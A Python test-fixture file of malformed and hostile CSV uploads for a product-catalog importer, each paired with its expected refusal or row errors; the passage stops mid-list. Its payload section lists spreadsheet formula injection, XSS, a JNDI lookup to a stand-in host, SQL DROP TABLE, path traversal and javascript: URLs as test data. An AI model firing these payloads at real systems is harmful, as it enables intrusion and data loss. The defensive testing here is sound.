"""Product files that no vendor should send but some will, and their expected results.

Every case starts from an empty catalog, the ten demo categories and an upload in mode ``create``
by an active vendor. A file is either rejected as a whole (``refusal``, with the spreadsheet row it
names, if any) or read: then ``errors`` are all its errors as (spreadsheet row, column key, type),
and ``valid`` is the number of imported rows. There are no other rows.

Structure is written as literal bytes. Cases about a value use ``products(...)``: one row for each
dict, numbered from row 2, with valid values in all cells that the dict does not name.
"""

from dataclasses import dataclass, field

Error = tuple[int, str, str]

REQUIRED = ("vendor_product_id", "product_name", "category", "sku", "price", "stock_quantity")
H = b"vendor_product_id,product_name,category,sku,price,stock_quantity\n"
ONE = b"VP-1,Mouse,Audio,SKU-1,19.99,5\n"
TWO = b"VP-2,Lamp,Books,SKU-2,5.00,0\n"
THREE = b"VP-3,Cup,Audio,SKU-3,1.00,7\n"
FREE = b"VP-9,Pen,Books,SKU-9,free,1\n"  # only the price is wrong, to check the row number

ROW_LIMIT = 10_000
SIZE_LIMIT = 10 * 1024 * 1024


@dataclass(frozen=True)
class Hostile:
    name: str
    data: bytes
    refusal: str | None = None
    row: int | None = None  # named by the refusal
    errors: set[Error] = field(default_factory=set)
    valid: int = 0
    asks: bool = False  # a person can say what its columns or its letters are


def products(*rows: dict[str, str], encoding: str = "utf-8") -> bytes:
    """A file with one product per dict, all cells quoted, and the optional columns of the dicts."""
    optional = sorted({key for row in rows for key in row} - set(REQUIRED))
    columns = [*REQUIRED, *optional]
    lines = [columns]
    for number, row in enumerate(rows, 2):
        cells = {
            "vendor_product_id": f"VP-{number}",
            "product_name": f"Product {number}",
            "category": "Audio",
            "sku": f"SKU-{number}",
            "price": "19.99",
            "stock_quantity": "5",
        } | row
        lines.append([cells.get(column, "") for column in columns])
    quoted = (",".join('"' + cell.replace('"', '""') + '"' for cell in line) for line in lines)
    return "".join(f"{line}\r\n" for line in quoted).encode(encoding)


def each(column: str, *texts: str) -> bytes:
    """A file with one row per text, which is in that column."""
    return products(*({column: text} for text in texts))


def every_row(count: int, column: str, error: str) -> set[Error]:
    return {(row, column, error) for row in range(2, count + 2)}


NOTHING_IN_IT = [
    Hostile("no bytes", b"", refusal="EMPTY_FILE"),
    Hostile("only a UTF-8 byte order mark", b"\xef\xbb\xbf", refusal="EMPTY_FILE"),
    Hostile("only a UTF-16 byte order mark", b"\xff\xfe", refusal="EMPTY_FILE"),
    Hostile("blank lines and spaces", b"\r\n   \r\n\t\r\n", refusal="EMPTY_FILE"),
    Hostile("only delimiters", b",,,,,\n,,,,,\n", refusal="EMPTY_FILE"),
    Hostile("only a DOS end-of-file mark", b"\x1a", refusal="EMPTY_FILE"),
    Hostile("only a sep line", b"sep=;\r\n", refusal="EMPTY_FILE"),
    Hostile("a megabyte of line breaks", b"\n" * 1_000_000, refusal="EMPTY_FILE"),
    Hostile("a header alone", H, refusal="NO_ROWS"),
    Hostile("a header without a line end", H.rstrip(), refusal="NO_ROWS"),
    Hostile("a header and blank rows", H + b",,,,,\n\n  ,,\n", refusal="NO_ROWS"),
    Hostile("a sep line and a header", b"sep=,\n" + H, refusal="NO_ROWS"),
]

NO_CSV = [
    Hostile(
        "an Excel workbook called .csv",
        b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00" + b"[Content_Types].xml xl/workbook.xml",
        refusal="BROKEN_XLSX",
    ),
    Hostile(
        "an old Excel workbook", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504), refusal="NOT_CSV"
    ),
    Hostile("a PDF", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n", refusal="NOT_CSV"),
    Hostile("a PNG", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", refusal="NOT_CSV"),
    Hostile("a JPEG", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01", refusal="NOT_CSV"),
    Hostile("a gzip archive", b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + H, refusal="NOT_CSV"),
    Hostile("a Parquet file", b"PAR1\x15\x04\x15\x10\x15\x14L\x15\x02", refusal="NOT_CSV"),
    Hostile("a program", b"\x7fELF\x02\x01\x01" + bytes(9), refusal="NOT_CSV"),
    Hostile("zeros", bytes(5_000), refusal="NOT_CSV"),
    Hostile("zeros before the header", bytes(4) + H + ONE, refusal="NOT_CSV"),
    Hostile("a NUL in the header", H.replace(b"sku", b"s\x00ku") + ONE, refusal="NOT_CSV"),
    Hostile(
        "a NUL in a quoted header of two lines",
        b'"vendor_product_id\n\x00",product_name,category,sku,price,stock_quantity\n' + ONE,
        refusal="NOT_CSV",
    ),
    Hostile(
        "UTF-16 without its byte order mark",
        (H + ONE).decode().encode("utf-16-le"),
        refusal="NOT_CSV",
    ),
    Hostile("UTF-32", (H + ONE).decode().encode("utf-32"), refusal="NOT_CSV"),
    Hostile(
        "an error page saved as .csv",
        b"<!DOCTYPE html>\n<html><head><title>502, Bad Gateway</title></head></html>\n",
        refusal="NOT_CSV",
    ),
    Hostile("JSON", b'[{"sku": "SKU-1", "price": 19.99}]\n', refusal="NOT_CSV"),
    Hostile("XML", b'<?xml version="1.0"?>\n<products/>\n', refusal="NOT_CSV"),
]

ENCODINGS = [
    Hostile("UTF-8 with a byte order mark", b"\xef\xbb\xbf" + H + ONE, valid=1),
    Hostile("two byte order marks", b"\xef\xbb\xbf\xef\xbb\xbf" + H + ONE, valid=1),
    Hostile("UTF-16, little end first", (H + ONE).decode().encode("utf-16"), valid=1),
    Hostile("UTF-16, big end first", b"\xfe\xff" + (H + ONE).decode().encode("utf-16-be"), valid=1),
    Hostile(
        "Windows-1252 with a euro sign and curly quotes",
        H + b"VP-1,Caf\xe9 \x93\x80\x94,Audio,SKU-1,19.99,5\n",
        valid=1,
    ),
    Hostile(
        "bytes that are signs inside words in Windows-1252",
        H + ONE + b"VP-2,\xc0\xaf,Audio,S,1,1\n",
        refusal="BAD_ENCODING",
        row=3,
        asks=True,
    ),
    Hostile(
        "one row UTF-8, another Windows-1252",
        H + "VP-1,Café,Audio,SKU-1,1,1\n".encode() + b"VP-2,Caf\xe9,Audio,SKU-2,1,1\n",
        refusal="BAD_ENCODING",
        row=3,
    ),
    Hostile(
        "Windows-1252 above, UTF-8 below",
        H + b"VP-1,Caf\xe9,Audio,SKU-1,1,1\n" + "VP-2,Café,Audio,SKU-2,1,1\n".encode(),
        refusal="BAD_ENCODING",
        row=2,
    ),
    Hostile(
        "a byte that Windows-1252 does not define",
        H + ONE + b"VP-2,Caf\xe9 \x81,Audio,SKU-2,1,1\n",
        refusal="BAD_ENCODING",
        row=3,
        asks=True,
    ),
    Hostile(
        "two bytes of Windows-1252 that are also UTF-8",
        H + "VP-1,NESCAFÉ® „MENÜ“,Audio,SKU-1,1,1\n".encode("cp1252"),
        valid=1,
    ),
    Hostile(
        "Polish in Windows-1250",
        H + ONE + "VP-2,Żółw,Audio,SKU-2,1,1\n".encode("cp1250"),
        refusal="BAD_ENCODING",
        row=3,
        asks=True,
    ),
    Hostile(
        "Japanese in Shift-JIS",
        H + "VP-1,ワイヤレスマウス,Audio,SKU-1,1,1\n".encode("shift_jis"),
        refusal="BAD_ENCODING",
        row=2,
        asks=True,
    ),
    Hostile(
        "cut within a UTF-8 character",
        H + ONE + b"VP-2,Caf\xc3",
        refusal="BAD_ENCODING",
        row=3,
    ),
    Hostile(
        "UTF-16 of an odd number of bytes",
        (H + ONE).decode().encode("utf-16")[:-1],
        refusal="BAD_ENCODING",
        row=2,
    ),
    Hostile(
        "a lone surrogate in UTF-16",
        "\ufeff".encode("utf-16-le")
        + (H + ONE).decode().encode("utf-16-le")
        + b"V\x00\x00\xd8,\x00x\x00\n\x00",
        refusal="BAD_ENCODING",
        row=3,
    ),
    Hostile(
        "surrogates written as UTF-8",
        H + "VP-1,Café,Audio,SKU-1,1,1\n".encode() + b"VP-2,\xed\xa0\xbd,Audio,SKU-2,1,1\n",
        refusal="BAD_ENCODING",
        row=3,
    ),
    Hostile(
        "a bad byte below blank lines and quoted line breaks",
        b"sep=,\n"
        + H
        + b'\nVP-1,"two\n\nlines",Audio,SKU-1,1,1\n,,,,,\n'
        + "VP-2,Café,Audio,SKU-2,1,1\n".encode()
        + b"VP-3,\xff,Audio,SKU-3,1,1\n",
        refusal="BAD_ENCODING",
        row=6,
    ),
]

QUOTES = [
    Hostile(
        "a row torn by quotation marks, with a NUL in it",
        H + b'VP-1,"Mou\x00se,Audio,SKU-1,19.99,5\nVP-2,La,mp",Audio,SKU-2,1,1\n',
        errors={(2, "product_name", "INVALID_VALUE")},
    ),
    Hostile(
        "a quote never closed",
        H + ONE + b'VP-2,"Lamp,Books,S,1,1\n' + THREE,
        refusal="MALFORMED_CSV",
        row=3,
    ),
    Hostile("cut within a quoted cell", H + ONE + b'VP-2,"La', refusal="MALFORMED_CSV", row=3),
    Hostile(
        "an inch mark within a quoted cell",
        H + b'VP-1,"27" monitor",Audio,SKU-1,1,1\n',
        refusal="MALFORMED_CSV",
        row=2,
    ),
    Hostile(
        "a quote closed by the next cell that is quoted",
        H + b'VP-1,"Mouse,Audio,SKU-1,1,1\n' + TWO + b'VP-3,"Cup, blue",Audio,SKU-3,1,1\n',
        refusal="MALFORMED_CSV",
        row=2,
    ),
    Hostile(
        "a quote closed by a stray one two rows down",
        H + ONE + b'VP-2,"Lamp,Books,SKU-2,5.00,0\n' + THREE + b'VP-4,Cup,Audio,SKU-4",1.00,7\n',
        refusal="MALFORMED_CSV",
        row=3,
    ),
    Hostile(
        "a quote closed by a stray one in an earlier column",
        H + b'VP-1,Mouse,Audio,"SKU-1,19.99,5\nVP-2,Lamp",Books,SKU-2,5.00,0\n' + THREE,
        refusal="MALFORMED_CSV",
        row=2,
    ),
    Hostile(
        "a quote never closed in the header", b'"' + H + ONE + TWO, refusal="MALFORMED_CSV", row=1
    ),
    Hostile("inch marks in unquoted cells", H + b'VP-1,27" monitor,Audio,6",19.99,5\n', valid=1),
    Hostile("doubled quotes", H + b'VP-1,"27"" ""wide"" monitor",Audio,"""S""",19.99,5\n', valid=1),
    Hostile(
        "text with commas and line breaks",
        b"description," + H + b'"Small,\nlight,\r\nand ""cheap"", too",' + ONE,
        valid=1,
    ),
]

COLUMNS = [
    Hostile(
        "no SKU column",
        b"vendor_product_id,product_name,category,price,stock_quantity\nA,B,Audio,1,1\n",
        refusal="MISSING_COLUMNS",
        asks=True,
    ),
    Hostile("no header", ONE + TWO, refusal="MISSING_COLUMNS", asks=True),
    Hostile(
        "colons between cells",
        H.replace(b",", b":") + ONE.replace(b",", b":"),
        refusal="MISSING_COLUMNS",
    ),
    Hostile(
        "the same column twice",
        H.replace(b"\n", b",sku\n") + ONE.replace(b"\n", b",SKU-1\n"),
        refusal="DUPLICATE_COLUMNS",
        asks=True,
    ),
    Hostile(
        "the same column twice, spelt in two ways",
        H.replace(b"\n", b",Product Name *\n") + ONE.replace(b"\n", b",Mouse\n"),
        refusal="DUPLICATE_COLUMNS",
        asks=True,
    ),
    Hostile(
        "more columns than any sheet of products",
        H.strip() + b",x" * 600 + b"\n" + ONE,
        refusal="MALFORMED_CSV",
        row=1,
    ),
    Hostile(
        "a header as people write it",
        b" Vendor Product ID *,PRODUCT_NAME,Category,Sku*,  price ,StockQuantity\n" + ONE,
        valid=1,
    ),
    Hostile(
        "a header with line breaks in its names",
        b'"Vendor\nProduct ID",Product Name,Category,SKU,Price,"Stock\r\nQuantity"\n' + ONE + FREE,
        errors={(3, "price", "INVALID_PRICE")},
        valid=1,
    ),
    Hostile(
        "columns in another order",
        b"stock_quantity,price,sku,category,product_name,vendor_product_id\n"
        b"5,19.99,SKU-1,Audio,Mouse,VP-1\nfive,free,SKU-2,Audio,Lamp,VP-2\n",
        errors={(3, "stock_quantity", "INVALID_STOCK"), (3, "price", "INVALID_PRICE")},
        valid=1,
    ),
    Hostile(
        "columns we do not know, whatever they hold",
        b"upload_id,vendor_id," + H + b"UPLOAD_X,VEND002," + ONE + b'=1+1,"a\x00b",' + TWO,
        valid=2,
    ),
    Hostile("columns without a name", b",," + H + b"note,," + ONE, valid=1),
    Hostile(
        "empty columns at the end", H.strip() + b",,,\n" + ONE.strip() + b",,,\n" + TWO, valid=2
    ),
    Hostile(
        "a corrected file that comes back",
        H.strip() + b",Errors\n" + ONE.strip() + b",Price must be at least 0.01 (was 0)\n",
        valid=1,
    ),
]

CELL_COUNTS = [
    Hostile(
        "a short row",
        H + ONE + b"VP-2,Lamp,Books\n" + THREE,
        errors={(3, "", "COLUMN_COUNT")},
        valid=2,
    ),
    Hostile(
        "a long row", H + ONE.strip() + b",,x\n" + TWO, errors={(2, "", "COLUMN_COUNT")}, valid=1
    ),
    Hostile(
        "a comma too many in a name",
        H + b"VP-1,Mouse, wireless,Audio,SKU-1,1,1\n" + TWO,
        errors={(2, "", "COLUMN_COUNT")},
        valid=1,
    ),
    Hostile(
        "a short row that is wrong in every cell",
        H + b"\x00,,nonsense,NaN\n" + TWO,
        errors={(2, "", "COLUMN_COUNT")},
        valid=1,
    ),
    Hostile(
        "empty cells at the end of all rows",
        H.strip() + b",,, ,\n" + ONE.strip() + b",,, ,\n" + TWO,
        valid=2,
    ),
    Hostile(
        "a comma too many in a name, and an empty last cell",
        H.strip() + b",brand\nVP-1,Mouse, wireless,Audio,SKU-1,1,1,\n" + TWO.strip() + b",x\n",
        errors={(2, "", "COLUMN_COUNT")},
        valid=1,
    ),
    Hostile(
        "an empty cell too many",
        H + ONE.strip() + b",\n" + TWO,
        errors={(2, "", "COLUMN_COUNT")},
        valid=1,
    ),
    Hostile("a title above the table", b"Our products\n" + H + ONE + TWO, valid=2),
    Hostile(
        "what programs write for empty cells",
        products(
            *(
                {"brand": word, "description": word}
                for word in ("NULL", "\\N", "NA", "nan", "None", "undefined")
            ),
            {"brand": "Null", "description": "None of these, NULL", "product_name": "NA Corp"},
        ),
        errors={
            (row, column, "INVALID_VALUE")
            for row in range(2, 8)
            for column in ("brand", "description")
        },
        valid=1,
    ),
    Hostile(
        "a name of invisible characters",
        each("product_name", "\u2060\u00ad", "\u3164", "\u2800 \u200e"),
        errors={(row, "product_name", "REQUIRED_FIELD") for row in (2, 3, 4)},
    ),
    Hostile(
        "names of columns in other spellings, with invisible characters",
        "\u200bVendor-Product-ID,product.name,Category:,SKU*,Price,Stock Quantity\u00ad\n".encode()
        + ONE,
        valid=1,
    ),
    Hostile("cut within a row", H + ONE + b"VP-2,Lam", errors={(3, "", "COLUMN_COUNT")}, valid=1),
    Hostile(
        "a sum below the table",
        H + ONE + TWO + b"\n,,,Sum,24.99\n",
        errors={(5, "", "COLUMN_COUNT")},
        valid=2,
    ),
    Hostile(
        "a row of 100,000 cells",
        H + ONE + b"x," * 99_999 + b"x\n" + TWO,
        errors={(3, "", "COLUMN_COUNT")},
        valid=2,
    ),
    Hostile(
        "semicolons in a file of commas",
        H + ONE + b"VP-2;Lamp;Books;SKU-2;5,00;0\n",
        errors={(3, "", "COLUMN_COUNT")},
        valid=1,
    ),
]

TOO_MUCH = [
    Hostile(
        "one row too many",
        H + b"".join(b"VP-%d,Mouse,Audio,SKU-%d,1,1\n" % (n, n) for n in range(ROW_LIMIT + 1)),
        refusal="TOO_MANY_ROWS",
        row=ROW_LIMIT + 2,
    ),
    Hostile(
        "one byte too many",
        H + ONE + b"\n" * (SIZE_LIMIT + 1 - len(H + ONE)),
        refusal="FILE_TOO_LARGE",
    ),
    Hostile(
        "one line of ten megabytes", H + ONE + b"x" * 10_000_000, refusal="MALFORMED_CSV", row=3
    ),
    Hostile("ten megabytes of commas", H + ONE + b"," * 10_000_000, refusal="MALFORMED_CSV", row=3),
    Hostile("two million blank rows", H + ONE + b"\r\n" * 2_000_000 + TWO, refusal="TOO_MANY_ROWS"),
]

ROW_NUMBERS = [
    Hostile(
        "blank lines in the middle",
        H + ONE + b"\n,,,,,\n \t \n" + FREE,
        errors={(6, "price", "INVALID_PRICE")},
        valid=1,
    ),
    Hostile(
        "quoted line breaks",
        H + b'VP-1,"Mouse\r\n\r\n3 buttons\n",Audio,SKU-1,19.99,5\n' + FREE,
        errors={(3, "price", "INVALID_PRICE")},
        valid=1,
    ),
    Hostile(
        "a sep line",
        b"sep=;\r\n" + (H + ONE + FREE).replace(b",", b";"),
        errors={(3, "price", "INVALID_PRICE")},
        valid=1,
    ),
    Hostile(
        "a quoted sep line after a byte order mark",
        b'\xef\xbb\xbf"sep=|"\n' + (H + ONE + FREE).replace(b",", b"|"),
        errors={(3, "price", "INVALID_PRICE")},
        valid=1,
    ),
    Hostile(
        "blank lines above the header",
        b"\n,,,,,\n" + H + ONE + FREE,
        errors={(5, "price", "INVALID_PRICE")},
        valid=1,
    ),
    Hostile(
        "carriage returns alone",
        (H + ONE + FREE).replace(b"\n", b"\r"),
        errors={(3, "price", "INVALID_PRICE")},
        valid=1,
    ),
    Hostile(
        "three kinds of line end",
        H + ONE.replace(b"\n", b"\r\n") + TWO.replace(b"\n", b"\r") + FREE.strip(),
        errors={(4, "price", "INVALID_PRICE")},
        valid=2,
    ),
    Hostile(
        "Windows line ends written twice",
        (H + ONE + FREE).replace(b"\n", b"\r\r\n"),
        errors={(5, "price", "INVALID_PRICE")},
        valid=1,
    ),
    Hostile(
        "tabs between cells",
        (H + ONE + FREE).replace(b",", b"\t"),
        errors={(3, "price", "INVALID_PRICE")},
        valid=1,
    ),
    Hostile(
        "a DOS end-of-file mark",
        H + ONE + FREE + b"\x1a",
        errors={(3, "price", "INVALID_PRICE")},
        valid=1,
    ),
    Hostile(
        "semicolons and decimal commas",
        (H + ONE).replace(b",", b";") + b"VP-2;Lamp;Books;SKU-2;5,00;0\n",
        errors={(3, "price", "INVALID_PRICE")},
        valid=1,
    ),
]

# The rule requires a plain ASCII decimal. A sign or a missing leading zero is not ambiguous.
GOOD_PRICES = (
    "0.01",
    "999999.99",
    "00012",
    "5",
    "5.0",
    "12.30",
    " 19.99 ",
    "\xa07.00\u3000",
    "+5",
    ".5",
)
BAD_PRICES = (
    *("NaN", "nan", "sNaN", "Infinity", "-Infinity", "inf", "∞", "1E+3000000", "1e2", "1e-2"),
    *("1_000", "１２", "٣", "²", "½", "1,800", "1.800,00", "1 800", "1'800", "1\xa0800", "19,99"),
    *("0x10", "0b1", "1/2", "--5", "+-5", "\u22125", "5.", ".", "-", "12.345", "12.340", "0.001"),
    *("0.00", "0", "-0", "-0.00", "-10.00", "1000000.00", "999999.995", "999999999999999999999"),
    *("$19.99", "19.99 USD", "€5", "free", "TRUE", "None", "=1+1", "=19.99", "@5", "1\n2", "1\t2"),
    *("9" * 5_000, "0" * 5_000 + "1", "0." + "0" * 5_000 + "1", "1" + "_1" * 2_500, "1" * 4_301),
)
GOOD_STOCKS = ("0", "1000000", "00012", " 7 ", "+5", "-0")
BAD_STOCKS = (
    *("3.0", "3.5", "5.", ".5", "-1", "1000001", "-1000001", "99999999999999999999", "1e3", "1E3"),
    *(
        "1_000",
        "１２",
        "٣",
        "²",
        "1.000",
        "0x10",
        "0b1",
        "0o7",
        "NaN",
        "Infinity",
    ),
    *(
        "1E+3000000",
        "five",
        "5 pcs",
        "=5",
        "--1",
        "\u22121",
        "true",
        "9" * 5_000,
        "0" * 5_000,
        "1\n2",
    ),
)
NUMBERS = [
    Hostile("prices that are right", each("price", *GOOD_PRICES), valid=len(GOOD_PRICES)),
    Hostile(
        "every wrong price in one file",
        each("price", *BAD_PRICES),
        errors=every_row(len(BAD_PRICES), "price", "INVALID_PRICE"),
    ),
    Hostile("stocks that are right", each("stock_quantity", *GOOD_STOCKS), valid=len(GOOD_STOCKS)),
    Hostile(
        "every wrong stock in one file",
        each("stock_quantity", *BAD_STOCKS),
        errors=every_row(len(BAD_STOCKS), "stock_quantity", "INVALID_STOCK"),
    ),
]

EMPTY_CELLS = [
    Hostile(
        "each required cell empty once",
        products(*({column: ""} for column in REQUIRED)),
        errors={(row, column, "REQUIRED_FIELD") for row, column in enumerate(REQUIRED, 2)},
    ),
    Hostile(
        "required cells that only look filled",
        each("product_name", "   ", "\xa0", "\t", "\u3000\u2003", "\r\n"),
        errors=every_row(5, "product_name", "REQUIRED_FIELD"),
    ),
    Hostile(
        "nothing but an id",
        H + b"VP-1,,,,,\n" + TWO,
        errors={(2, column, "REQUIRED_FIELD") for column in REQUIRED[1:]},
        valid=1,
    ),
    Hostile(
        "empty in one column, wrong in the others",
        products({"product_name": "", "category": "Shoes", "price": "0", "stock_quantity": "-1"}),
        errors={
            (2, "product_name", "REQUIRED_FIELD"),
            (2, "category", "INVALID_CATEGORY"),
            (2, "price", "INVALID_PRICE"),
            (2, "stock_quantity", "INVALID_STOCK"),
        },
    ),
]

LENGTHS = [
    Hostile(
        "names as long as can be",
        each("product_name", "x" * 200, "😀" * 200, " " * 50 + "y" * 200 + "\xa0", "e\u0301" * 200),
        valid=4,
    ),
    Hostile(
        "a name of 201 characters",
        each("product_name", "x" * 201, "é" * 201),
        errors=every_row(2, "product_name", "FIELD_TOO_LONG"),
    ),
    Hostile(
        "an id of 101 characters",
        each("vendor_product_id", "x" * 101, "x" * 100),
        errors={(2, "vendor_product_id", "FIELD_TOO_LONG")},
        valid=1,
    ),
    Hostile(
        "a SKU of 101 characters",
        each("sku", "x" * 101, "x" * 100),
        errors={(2, "sku", "FIELD_TOO_LONG")},
        valid=1,
    ),
    Hostile(
        "a description of 2,001 characters",
        each("description", "x" * 2_001, "x" * 2_000),
        errors={(2, "description", "FIELD_TOO_LONG")},
        valid=1,
    ),
    Hostile(
        "a description of 10,001 characters",
        each("description", "x" * 10_001, "x" * 10_000, "y"),
        errors=every_row(2, "description", "FIELD_TOO_LONG"),
        valid=1,
    ),
    Hostile(
        "a name of half a million characters",
        each("product_name", "=" * 500_000, "y"),
        errors={(2, "product_name", "FIELD_TOO_LONG")},
        valid=1,
    ),
    Hostile(
        "a category of 5,000 characters",
        each("category", "Audio" * 1_000),
        errors={(2, "category", "INVALID_CATEGORY")},
    ),
    Hostile("a long cell in a column we do not know", each("notes", "x" * 100_000), valid=1),
]

CHARACTERS = [
    Hostile(
        "NUL in a cell",
        H + b"VP-1,Mo\x00use,Audio,SKU-1,19.99,5\nVP-2,Lamp,Books,SKU\x002,5.00,0\n" + THREE,
        errors={(2, "product_name", "INVALID_VALUE"), (3, "sku", "INVALID_VALUE")},
        valid=1,
    ),
    Hostile(
        "a cell of NUL only",
        H + b"VP-1,\x00,Audio,SKU-1,19.99,5\n" + TWO,
        errors={(2, "product_name", "INVALID_VALUE")},
        valid=1,
    ),
    Hostile(
        "control characters",
        each(
            "product_name", "be\x07ll", "\x1b[31mred", "del\x7fete", "ne\x85xt", "a\x0bb", "a\x01b"
        ),
        errors=every_row(6, "product_name", "INVALID_VALUE"),
    ),
    Hostile(
        "tabs and line breaks in a description", each("description", "a\tb\nc\r\nd\re"), valid=1
    ),
    Hostile(
        "characters that turn or hide text",
        each(
            "product_name",
            "photo\u202egpj.exe",
            "\u2066isolated\u2069",
            "zero\u200bwidth",
            "\ufeffBOM",
            "soft\xadhyphen",
        ),
        valid=5,
    ),
    Hostile(
        "characters rarely met",
        each(
            "product_name",
            "\uffff",
            "\U0010ffff",
            "\ue000",
            "\ufffd",
            "👩\u200d👩\u200d👧",
            "z" + "\u0335\u0321" * 60,
            "ﷺ",
            "\u2028x\u2029y",
        ),
        valid=8,
    ),
]

PAYLOADS = [
    Hostile(
        "formulas are data",
        each(
            "product_name",
            "=CMD|' /C calc'!A0",
            "+1+1",
            "-2+3",
            "@SUM(A1:A9)",
            "\t=1+1",
            "\r=1+1",
            '=HYPERLINK("http://x.example","y")',
            "＝1+1",
            "%0A=1+1",
        ),
        valid=9,
    ),
    Hostile(
        "formulas in a row with an error",
        products(
            {"vendor_product_id": "=1+1", "product_name": "@x", "sku": "+cmd", "price": "-10.00"}
        ),
        errors={(2, "price", "INVALID_PRICE")},
    ),
    Hostile(
        "scripts are data",
        each(
            "product_name",
            "<script>alert(1)</script>",
            '"><img src=x onerror=alert(1)>',
            "{{7*7}}{% debug %}",
            "${jndi:ldap://x.example/a}",
            "'; DROP TABLE products;--",
            "../../../etc/passwd",
            "%s%n%x",
            "{0.__class__}",
        ),
        valid=8,
    ),
    Hostile(
        "scripts in a row with an error",
        products(
            {
                "product_name": "<script>alert(1)</script>",
                "category": "<b>Audio</b>",
                "price": "{0}%s",
            }
        ),
        errors={(2, "category", "INVALID_CATEGORY"), (2, "price", "INVALID_PRICE")},
    ),
    Hostile(
        "what COPY gives a meaning to",
        each(
            "description",
            r"\N",
            r"\.",
            "a\n\\.\nb",
            "\\",
            r"\t\n\x41\101",
            'a\\"b',
            "NULL",
            "null",
            '""',
        ),
        errors={(row, "description", "INVALID_VALUE") for row in (2, 8, 9)},
        valid=6,
    ),
    Hostile(
        "a SKU that programs write for an empty cell",
        each("sku", r"\N", "NULL", "None", "nan", "0", "-1"),
        errors={(row, "sku", "INVALID_VALUE") for row in (2, 3, 4, 5)},
        valid=2,
    ),
    Hostile(
        "addresses that are none",
        each(
            "image_url",
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            "data:text/html,<script>",
            "//x.example/a.jpg",
            "ftp://x.example/a.jpg",
            "https://",
            "https://x.example/a b.jpg",
            'https://x.example/"onerror=alert(1)',
            "C:\\a.jpg",
            "java\nscript:alert(1)",
            "https://x.example/a\njavascript:alert(1)",
        ),
        errors=every_row(11, "image_url", "INVALID_VALUE"),
    ),
    Hostile(
        "addresses",
        each("image_url", "https://x.example/a.jpg", "HTTP://X.EXAMPLE/a.png?b=c&d=%20#e", ""),
        valid=3,
    ),
    Hostile(
        "optional cells that are badly formed",
        products(
            {"compare_at_price": "cheap"},
            {"compare_at_price": "-1"},
            {"compare_at_price": "NaN"},
            {"weight_kg": "1.5lb"},
            {"weight_kg": "-1"},
            {"weight_kg": "1E+3000000"},
            {"dimensions_cm": "big"},
        ),
        errors={
            *((row, "compare_at_price", "INVALID_VALUE") for row in (2, 3, 4)),
            *((row, "weight_kg", "INVALID_VALUE") for row in (5, 6, 7)),
            (8, "dimensions_cm", "INVALID_VALUE"),
        },
    ),
    Hostile(
        "optional cells that are well formed or empty",
        products(
            {"compare_at_price": "29.99", "weight_kg": "0.150", "dimensions_cm": "10 x 5 x 3"},
            {"compare_at_price": " ", "weight_kg": "\xa0"},
            {"weight_kg": "1.5kg", "stock_quantity": "1,000"},  # prices have a decimal point
            {"weight_kg": "1.5 kg", "stock_quantity": "1 000"},
        ),
        valid=4,
    ),
]

CATEGORIES = [
    Hostile(
        "categories in any case",
        each("category", "audio", " AUDIO ", "HoMe & KiTcHeN", "\xa0books"),
        valid=4,
    ),
    Hostile("an invisible character behind a category", each("category", "Audio\u200b"), valid=1),
    Hostile(
        "nothing but invisible characters in a required cell",
        each("product_name", "\u200b\ufeff", "\u2060"),
        errors=every_row(2, "product_name", "REQUIRED_FIELD"),
    ),
    Hostile(
        "two quotation marks left open in the same column take in the row between",
        H + b'VP-1,"Mouse,Audio,SKU-1,19.99,5\nVP-2,Lamp",Books,SKU-2,5.00,0\n' + THREE,
        errors={(2, "product_name", "INVALID_VALUE")},
        valid=1,
    ),
    Hostile(
        "categories that are not approved",
        each(
            "category",
            "Audoi",
            "Footware",
            "Home and Kitchen",
            "Toys &amp; Games",
            "Ａｕｄｉｏ",
            "AUD\u0130O",
            "Audio/Cameras",
            "%",
            "_____",
            ".*",
        ),
        errors=every_row(10, "category", "INVALID_CATEGORY"),
    ),
]

DUPLICATES = [
    Hostile("a SKU twice", each("sku", "A", "A"), errors={(3, "sku", "DUPLICATE_SKU")}, valid=1),
    Hostile(
        "a SKU five times",
        each("sku", *"AAAAA"),
        errors={(row, "sku", "DUPLICATE_SKU") for row in (3, 4, 5, 6)},
        valid=1,
    ),
    Hostile(
        "an id twice",
        each("vendor_product_id", "A", "A"),
        errors={(3, "vendor_product_id", "DUPLICATE_VENDOR_PRODUCT_ID")},
        valid=1,
    ),
    Hostile(
        "the same row twice",
        H + ONE + ONE,
        errors={
            (3, "sku", "DUPLICATE_SKU"),
            (3, "vendor_product_id", "DUPLICATE_VENDOR_PRODUCT_ID"),
        },
        valid=1,
    ),
    Hostile(
        "the id of one row and the SKU of another",
        products(
            {"vendor_product_id": "A", "sku": "S"},
            {"vendor_product_id": "B", "sku": "T"},
            {"vendor_product_id": "A", "sku": "T"},
        ),
        errors={
            (4, "sku", "DUPLICATE_SKU"),
            (4, "vendor_product_id", "DUPLICATE_VENDOR_PRODUCT_ID"),
        },
        valid=2,
    ),
    Hostile(
        "a SKU composed and decomposed",
        each("sku", "caf\xe9", "cafe\u0301"),
        errors={(3, "sku", "DUPLICATE_SKU")},
        valid=1,
    ),
    Hostile(
        "an id with the Kelvin sign",
        each("vendor_product_id", "K-1", "\u212a-1"),
        errors={(3, "vendor_product_id", "DUPLICATE_VENDOR_PRODUCT_ID")},
        valid=1,
    ),
    Hostile(
        "a SKU with space around it",
        each("sku", "A", " A\xa0"),
        errors={(3, "sku", "DUPLICATE_SKU")},
        valid=1,
    ),
    Hostile("SKUs that differ in case", each("sku", "abc", "ABC", "Abc"), valid=3),
    Hostile(
        "SKUs that only look alike",
        each("sku", "A-1", "\u0410-1", "A-\u200b1", "A-01", "A 1", "A  1", "Ａ-1"),
        valid=7,
    ),
    Hostile(
        "ids that are the same number", each("vendor_product_id", "7", "007", "7.0", "+7"), valid=4
    ),
    Hostile(
        "a rejected row holds no SKU",
        products({"sku": "A", "price": "0"}, {"sku": "A"}),
        errors={(2, "price", "INVALID_PRICE")},
        valid=1,
    ),
    Hostile(
        "a row rejected as a duplicate holds nothing either",
        products(
            {"vendor_product_id": "A", "sku": "S"},
            {"vendor_product_id": "A", "sku": "T"},
            {"vendor_product_id": "B", "sku": "T"},
